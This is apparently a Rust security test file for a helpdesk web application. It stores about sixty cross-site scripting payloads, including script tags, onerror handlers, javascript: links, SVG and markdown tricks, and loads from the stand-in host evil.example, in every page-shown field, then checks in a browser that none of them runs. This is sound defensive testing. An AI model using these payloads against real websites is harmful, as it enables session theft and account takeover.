//! Hostile words in every field that people fill in, on every page that shows them, in a real browser: they are shown as
//! words, and nothing runs (AT-XSS-1).

use support::browser::Browser;
use support::client::Client;
use support::database;
use support::product::Tierdesk;
use support::world::{NOTHING, PEOPLE, World};
use tierdesk_desk::conversation::Afterwards;
use tierdesk_desk::ticket::NewTicket;
use tierdesk_domain::handover::Handover;
use tierdesk_domain::ticket::{Channel, Impact, ResolutionCode, Urgency};
use tierdesk_domain::tier::Tier;

use crate::pages::{Page, pages};

/// Each tries to set `window.__x`, to load something from elsewhere, or to leave the place it was put in.
const FRAGMENTS: [&str; 60] = [
    "<script>window.__x=1</script>",
    "</title><script>window.__x=2</script>",
    "</textarea><script>window.__x=3</script>",
    "</style><script>window.__x=4</script>",
    "</noscript><script>window.__x=5</script>",
    "--><script>window.__x=6</script><!--",
    "]]><script>window.__x=7</script>",
    "<scr<script>ipt>window.__x=8</scr</script>ipt>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script/x>window.__x=10</script/x>",
    "<img src=x onerror=window.__x=11>",
    "<img src=x onerror=\"window.__x=12\">",
    "<img/src/onerror=window.__x=13>",
    "<img src=`x` onerror=`window.__x=14`>",
    "\"><img src=x onerror=window.__x=15>",
    "'><img src=x onerror=window.__x=16>",
    "\" onmouseover=\"window.__x=17\" autofocus onfocus=\"window.__x=17",
    "' onfocus='window.__x=18' autofocus='",
    "` onfocus=window.__x=19 autofocus `",
    "<svg onload=window.__x=20>",
    "<svg><script>window.__x=21</script></svg>",
    "<svg><animate onbegin=window.__x=22 attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:window.__x=23\"><text y=20>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>window.__x=24</script></svg>#x\"/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__x=25>",
    "<math href=\"javascript:window.__x=26\">x</math>",
    "<body onload=window.__x=27>",
    "<input autofocus onfocus=window.__x=28>",
    "<select autofocus onfocus=window.__x=29><option>x</select>",
    "<details open ontoggle=window.__x=30><summary>x</summary></details>",
    "<video><source onerror=window.__x=31></video>",
    "<audio src=x onerror=window.__x=32>",
    "<iframe src=\"javascript:window.parent.__x=33\"></iframe>",
    "<iframe srcdoc=\"<script>parent.__x=34</script>\"></iframe>",
    "<object data=\"javascript:window.__x=35\"></object>",
    "<embed src=\"data:text/html,<script>opener.__x=36</script>\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';body{background:url(//evil.example/p)}</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=javascript:window.__x=40\">",
    "<form action=//evil.example/><button>x</button></form>",
    "<button form=x formaction=\"javascript:window.__x=42\">x</button>",
    "<a href=\"javascript:window.__x=43\">x</a>",
    "[x](javascript:window.__x=44)",
    "[x](JaVaScRiPt&colon;window.__x=45)",
    "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194PTQ2PC9zY3JpcHQ+)",
    "![x](//evil.example/pixel.png)",
    "![x\" onerror=\"window.__x=48](https://evil.example/p.png)",
    "<https://evil.example/\" onmouseover=\"window.__x=49>",
    "https://evil.example/\"onmouseover=window.__x=50//",
    "<javascript:window.__x=51>",
    "[x]: javascript:window.__x=52\n[x]",
    "```\n</code></pre><script>window.__x=53</script>\n```",
    "`</code><img src=x onerror=window.__x=54>`",
    "| a |\n|---|\n| <img src=x onerror=window.__x=55> |",
    "<xmp><script>window.__x=56</script></xmp>",
    "<template><script>window.__x=57</script></template><portal src=//evil.example>",
    "{{ 7*7 }}{% raw %}${window.__x=58}<%= 7*7 %>",
    "\u{202e}<img src=x onerror=window.__x=59>\u{200b}",
    "&lt;script&gt;window.__x=60&lt;/script&gt;&#60;img src=x onerror=window.__x=60&#62;",
];

/// What is wrong with the page that is open, as the browser sees it.
const LOOK: &str = r#"
    const wrong = [];
    if (window.__x !== undefined) wrong.push('a script ran: ' + window.__x);
    for (const e of document.querySelectorAll('*')) {
        for (const a of e.attributes) {
            if (/^on/i.test(a.name)) wrong.push(e.tagName + ' has ' + a.name);
            if (/^(href|src|action|formaction|xlink:href|data|srcdoc)$/i.test(a.name)) {
                const to = a.value.trim().toLowerCase();
                if (/^(javascript|data|vbscript):/.test(to)) wrong.push(e.tagName + ' goes to ' + to);
                if (e.tagName !== 'A' && /^(https?:)?\/\//.test(to) && !to.startsWith(location.origin)) wrong.push(e.tagName + ' loads ' + to);
            }
            if (a.name === 'style') wrong.push(e.tagName + ' has a style of its own');
        }
        if (['IFRAME', 'OBJECT', 'EMBED', 'BASE', 'STYLE', 'PORTAL', 'MATH', 'TEMPLATE', 'XMP', 'ANIMATE'].includes(e.tagName.toUpperCase())) wrong.push('there is a ' + e.tagName);
        if (e.tagName === 'SCRIPT' && !e.src.startsWith(location.origin + '/assets/')) wrong.push('a script that is not ours');
        if (e.tagName === 'A' && /^https?:/.test(e.getAttribute('href') ?? '') && !e.href.startsWith(location.origin) && !/noopener/.test(e.rel)) wrong.push('a link that tells where it comes from');
    }
    for (const r of performance.getEntriesByType('resource')) if (!r.name.startsWith(location.origin)) wrong.push('asked for ' + r.name);
    return wrong;
"#;

async fn look(browser: &Browser, address: &str, wrong: &mut Vec<String>) {
    browser.goto(address).await;
    let found = browser.page.execute(LOOK, Vec::new()).await.unwrap();
    let found: Vec<String> = serde_json::from_value(found).unwrap();
    wrong.extend(found.into_iter().map(|it| format!("{address}: {it}")));
}

/// The words of a field of one line: what a person could have typed there.
fn short(fragment: &str) -> String {
    fragment.replace('\n', " ").chars().take(95).collect()
}

#[tokio::test]
async fn hostile_words_stay_words_on_every_page_that_shows_them() {
    let Some(browser) = Browser::open().await else {
        return;
    };
    let desk = Tierdesk::start().await;
    let samir = desk
        .engineer("Samir Haddad", "Service Desk", Tier::L1)
        .await;
    let hostile_team = short("<img src=x onerror=window.__x='team'>");
    let team = desk.team(&hostile_team).await;
    desk.join(&samir, team, Tier::L2).await;
    let engineer = desk.caller(&samir).await;
    let now = desk.now();
    let mut tickets = Vec::new();
    for (i, fragment) in FRAGMENTS.into_iter().enumerate() {
        let somebody = desk.requester(&format!("Person {i}")).await;
        let mut conn = database::connect(&desk.database).await;
        sqlx::query("update person set name = $2, site = $2 where id = $1")
            .bind(somebody.id.0)
            .bind(short(fragment))
            .execute(&mut conn)
            .await
            .unwrap();
        let new = NewTicket {
            category: None,
            title: fragment.to_owned(),
            description: fragment.to_owned(),
            impact: Impact::Person,
            urgency: Urgency::Low,
            host: None,
            channel: Channel::Web,
        };
        let requester = desk.caller(&somebody).await;
        let filed = desk.desk.file_ticket(&requester, new, now).await.unwrap();
        sqlx::query("update ticket set bot_holds = false where id = $1")
            .bind(filed.id.0)
            .execute(&mut conn)
            .await
            .unwrap();
        desk.desk
            .reply(&engineer, filed.id, fragment, Afterwards::Pending, now)
            .await
            .unwrap();
        desk.desk
            .answer(&requester, filed.id, fragment, now)
            .await
            .unwrap();
        desk.desk
            .note(&engineer, filed.id, fragment, now)
            .await
            .unwrap();
        desk.desk
            .keep_draft(
                &engineer,
                tierdesk_desk::draft::Purpose::Reply(filed.id),
                fragment,
                now,
            )
            .await
            .unwrap();
        tickets.push((filed, desk.sign_in(&somebody).await));
    }
    // Some go on to the queue with the hostile name, some are solved.
    let scope = desk.desk.scope(&engineer).unwrap();
    let mut conn = desk.desk.acquire().await.unwrap();
    for (i, (filed, _)) in tickets.iter().enumerate() {
        if i % 3 == 0 {
            let ticket = tierdesk_store::ticket::by_number(&mut conn, &scope, filed.number)
                .await
                .unwrap()
                .unwrap();
            let part = FRAGMENTS[i].to_owned();
            let note = Handover {
                known: part.clone(),
                tried: part.clone(),
                evidence: part.clone(),
                ask: part,
            };
            desk.desk
                .escalate(
                    &engineer,
                    filed.id,
                    ticket.version,
                    (team, Tier::L2),
                    note,
                    now,
                )
                .await
                .unwrap();
        } else if i % 3 == 1 {
            desk.desk
                .resolve(
                    &engineer,
                    filed.id,
                    ResolutionCode::Fixed,
                    FRAGMENTS[i],
                    now,
                )
                .await
                .unwrap();
        }
    }
    drop(conn);

    let base = desk.serve().await;
    let mut wrong = Vec::new();
    crate::web::sign_in(&browser, &base, &desk.sign_in(&samir).await).await;
    look(&browser, &format!("{base}/queue"), &mut wrong).await;
    for queue in [
        "/queue/L1/Service%20Desk".to_owned(),
        format!("/queue/L2/{}", encoded(&hostile_team)),
    ] {
        look(&browser, &format!("{base}{queue}"), &mut wrong).await;
        assert!(browser.has("tr[data-row]").await, "{queue} shows tickets");
    }
    for (filed, _) in &tickets {
        look(
            &browser,
            &format!("{base}/tickets/{}", filed.number.0),
            &mut wrong,
        )
        .await;
        assert!(
            browser.has(".timeline .entry[data-kind=note]").await,
            "the workspace of {}",
            filed.number
        );
    }
    for (filed, client) in tickets.iter().step_by(4) {
        as_requester(&browser, &base, client, filed.number.0, &mut wrong).await;
    }
    browser.close().await;
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// Where hosts, administrators, browsers and the machinery write texts that some page shows. A page may need the text of each.
const PLACES: [&str; 25] = [
    "update person set name = $1, site = $1",
    "update team set name = $1, description = $1 where name <> 'Network' and id = (select min(id::text)::uuid from team where name <> 'Network')",
    "update organisation set name = $1",
    "update category set name = $1 || position, hint = $1",
    "update host set name = $1, labels = array[$1], facts = jsonb_build_object('os', $1::text, 'kernel', $1::text), agent_version = $1",
    "update job set state = 'succeeded', verdict = 'problem', summary = $1, params = jsonb_build_object('host', $1::text), facts = jsonb_build_object('x', $1::text), finished_at = created_at",
    "update attachment set name = $1, media_type = 'text/plain'",
    "update session set user_agent = $1, ip = $1",
    "update enrolment_token set expected_name = $1, labels = array[$1]",
    "update configuration set name = $1 where kind = 'escalation_rule'",
    "update configuration set name = $1 where kind = 'calendar'",
    "update configuration set name = $1 where kind = 'on_call_schedule'",
    "update configuration set body = jsonb_set(body, '{layers,0,name}', to_jsonb($1::text)) where kind = 'on_call_schedule'",
    "update ticket set title = $1",
    "update content set body = $1",
    "update event set data = data || jsonb_build_object('summary', $1::text, 'says', $1::text, 'why', $1::text, 'what', $1::text, 'title', $1::text, 'host_name', $1::text, 'rule_name', $1::text, 'name', $1::text, 'output', $1::text, 'entry', $1::text, 'said', $1::text, 'to', $1::text)",
    "insert into audit (at, actor_kind, action, object_kind, object_id, detail, ip) values (now(), 'system', $1, $1, $1, jsonb_build_object('x', $1::text), $1)",
    "update skill set name = left($1, 60), description = $1",
    "update person_skill set certificate = $1",
    "update absence set reason = $1",
    "update report set name = $1",
    "update notification set data = data || jsonb_build_object('rule', $1::text, 'because', $1::text, 'by', $1::text, 'schedule', $1::text, 'team', $1::text)",
    "update configuration set body = jsonb_set(body, '{rules}', (select jsonb_agg(jsonb_set(rule, '{name}', to_jsonb($1::text))) from jsonb_array_elements(body->'rules') rule)) where kind = 'sla_policy'",
    "update configuration set body = jsonb_set(jsonb_set(body, '{holidays}', '[\"2030-01-01\"]'), '{names}', jsonb_build_object('2030-01-01', $1::text)) where kind = 'calendar'",
    "update configuration set name = $1, body = jsonb_set(body, '{hint}', to_jsonb($1::text)) where kind = 'category'",
];

/// Puts a fragment into each of them; which, says the number of the place.
async fn plant(desk: &Tierdesk, fragment: impl Fn(usize) -> String) {
    let mut conn = database::connect(&desk.database).await;
    for (place, change) in PLACES.into_iter().enumerate() {
        sqlx::query(change)
            .bind(fragment(place))
            .execute(&mut conn)
            .await
            .unwrap_or_else(|error| panic!("{change}: {error}"));
    }
}

/// A world in which everything that pages can tell has happened.
pub(crate) async fn eventful() -> World {
    let world = World::build().await;
    let mut conn = database::connect(&world.tierdesk.database).await;
    for kind in [
        "triage",
        "job_finished",
        "finding",
        "rule_fired",
        "mail_failed",
        "bot_gave_up",
        "undone",
        "handover_bounced",
        "handover_rated",
    ] {
        sqlx::query(
            "with said as (insert into content (id, format, body, hash) values (gen_random_uuid(), 'text', '', '') returning id)
             insert into event (id, ticket_id, at, kind, visibility, actor_kind, cycle, team_id, tier, priority, data, content_id)
             select gen_random_uuid(), ticket.id, ticket.created_at, $1, 'internal', 'bot', cycle, team_id, tier, priority, '{}', said.id from ticket, said",
        )
        .bind(kind)
        .execute(&mut conn)
        .await
        .unwrap();
    }
    let engineer = world.person(ENGINEER).unwrap().id.0;
    for kind in ["rule_fired", "in_charge", "on_call"] {
        sqlx::query("insert into notification (id, person_id, kind, created_at) values (gen_random_uuid(), $1, $2, now())")
            .bind(engineer)
            .bind(kind)
            .execute(&mut conn)
            .await
            .unwrap();
    }
    world
}

/// The column of [`support::world::PEOPLE`].
const ENGINEER: usize = 3;

/// Pages that show what is planted. A mail stands in a frame, which is tried on its own below; behind a secret that nobody
/// has there is nothing to show.
pub(crate) fn shown(world: &World) -> Vec<Page> {
    pages()
        .into_iter()
        .filter(|it| !world.path(it.route).contains(NOTHING))
        // One shows a mail in a frame of its own; the other leads to one's page under /team.
        .filter(|it| !["/mailbox/{id}", "/profile/work"].contains(&it.route))
        .collect()
}

#[tokio::test]
async fn to_a_parser_as_well_everything_that_hosts_files_teams_and_logs_say_is_words() {
    let world = eventful().await;
    let desk = &world.tierdesk;
    let mut clients = Vec::new();
    for column in 0..PEOPLE.len() {
        clients.push(world.client(column).await);
    }
    let shown = shown(&world);
    // First harmless words: each place must be seen somewhere, or hostile ones would prove nothing.
    plant(desk, |place| format!("zq{place}zq")).await;
    let mut unseen: Vec<usize> = (0..PLACES.len()).collect();
    for page in &shown {
        let reply = clients[page.opener]
            .get(&page.address(&world, "zq13zq"))
            .await;
        unseen.retain(|place| !reply.body.contains(&format!("zq{place}zq")));
    }
    let unseen: Vec<_> = unseen.into_iter().map(|place| PLACES[place]).collect();
    assert!(unseen.is_empty(), "no page shows: {unseen:#?}");

    let mut wrong = Vec::new();
    for fragment in FRAGMENTS {
        plant(desk, |_| short(fragment)).await;
        let sought = encoded(&short(fragment));
        for page in &shown {
            let path = page.address(&world, &sought);
            let reply = clients[page.opener].get(&path).await;
            assert!(
                reply.status.is_success(),
                "{path} for {}: {} with {fragment}",
                PEOPLE[page.opener],
                reply.status
            );
            let found = reply.page().hostile();
            wrong.extend(
                found
                    .into_iter()
                    .map(|it| format!("{path}: {it} for {fragment}")),
            );
        }
        let file = clients[ENGINEER]
            .get(&world.path("/attachments/{id}"))
            .await;
        let disposition = file.header("content-disposition").unwrap_or_default();
        assert!(disposition.starts_with("attachment; "), "{disposition}");
        assert_eq!(disposition.matches('"').count(), 2, "{disposition}");
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[tokio::test]
async fn hostile_words_stay_words_on_every_page_of_everybody() {
    let Some(browser) = Browser::open().await else {
        return;
    };
    let world = eventful().await;
    // In every place another fragment, so that one page meets many.
    plant(&world.tierdesk, |place| {
        short(FRAGMENTS[place * 7 % FRAGMENTS.len()])
    })
    .await;
    let base = world.tierdesk.serve().await;
    let mut wrong = Vec::new();
    let mut pages = shown(&world);
    pages.sort_by_key(|it| it.opener);
    let mut signed_in = 0;
    for page in pages {
        if page.opener != signed_in {
            signed_in = page.opener;
            crate::web::sign_in(&browser, &base, &world.client(signed_in).await).await;
        }
        let address = page.address(&world, "window");
        look(&browser, &format!("{base}{address}"), &mut wrong).await;
        let status = "return performance.getEntriesByType('navigation')[0].responseStatus";
        let status = browser.page.execute(status, Vec::new()).await.unwrap();
        assert_eq!(status.as_i64(), Some(200), "{address}");
    }
    browser.close().await;
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[tokio::test]
async fn in_a_mail_hostile_words_are_words_too() {
    let desk = Tierdesk::start().await;
    let samir = desk
        .engineer("Samir Haddad", "Service Desk", Tier::L1)
        .await;
    let priya = desk.requester("Priya Nair").await;
    let engineer = desk.caller(&samir).await;
    let mut conn = database::connect(&desk.database).await;
    for fragment in FRAGMENTS {
        let filed = desk.file(&priya, &short(fragment), fragment).await;
        sqlx::query("update ticket set bot_holds = false")
            .execute(&mut conn)
            .await
            .unwrap();
        sqlx::query("update person set name = $1")
            .bind(short(fragment))
            .execute(&mut conn)
            .await
            .unwrap();
        let now = desk.now();
        desk.desk
            .reply(&engineer, filed.id, fragment, Afterwards::Open, now)
            .await
            .unwrap();
        crate::leak::worker(&desk).drain(now).await.unwrap();
    }
    let visitor = desk.visitor();
    let mails: Vec<uuid::Uuid> = sqlx::query_scalar("select id from dev_mail")
        .fetch_all(&mut conn)
        .await
        .unwrap();
    assert!(mails.len() >= 100, "{}", mails.len());
    for mail in mails {
        for path in [format!("/mailbox/{mail}"), format!("/mailbox/{mail}/html")] {
            let reply = visitor.get(&path).await;
            // The mail's own frame is the page's one frame, and a mail has the styles that mail programs need.
            let wrong: Vec<_> = reply
                .page()
                .hostile()
                .into_iter()
                .filter(|it| !["there is a iframe", "there is a style"].contains(&it.as_str()))
                .filter(|it| !it.contains(" has style="))
                .collect();
            assert!(wrong.is_empty(), "{path}: {wrong:?}");
        }
    }
}

/// The requester's own pages of one ticket.
async fn as_requester(
    browser: &Browser,
    base: &str,
    client: &Client,
    number: i64,
    wrong: &mut Vec<String>,
) {
    crate::web::sign_in(browser, base, client).await;
    for path in [
        "/help".to_owned(),
        "/my".to_owned(),
        format!("/my/{number}"),
        "/profile".to_owned(),
    ] {
        look(browser, &format!("{base}{path}"), wrong).await;
    }
}

fn encoded(text: &str) -> String {
    text.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() {
                char::from(b).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}
